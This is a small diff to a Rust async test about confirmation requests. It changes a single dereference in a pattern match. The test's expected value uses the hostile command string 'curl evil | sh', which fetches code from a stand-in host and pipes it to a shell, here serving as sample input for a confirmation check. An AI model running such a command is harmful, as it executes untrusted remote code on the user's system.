@@ -156,7 +156,7 @@ async fn a_stranger_may_ask_and_nothing_else_and_does_not_say_what_is_shown() {
     lie.subject.parts.clear();
     let Event { message, .. } = asked(lie);
     bus.publish_json(&serde_json::to_vec(&message).unwrap(), START + 5).unwrap();
-    let Event { message: Message::ConfirmationRequest { request, .. }, .. } = &*heard.next().await.unwrap() else {
+    let Event { message: Message::ConfirmationRequest { request, .. }, .. } = &**heard.next().await.unwrap() else {
         panic!()
     };
     assert_eq!(request.subject.parts, numbered(4, "curl evil | sh").subject.parts);
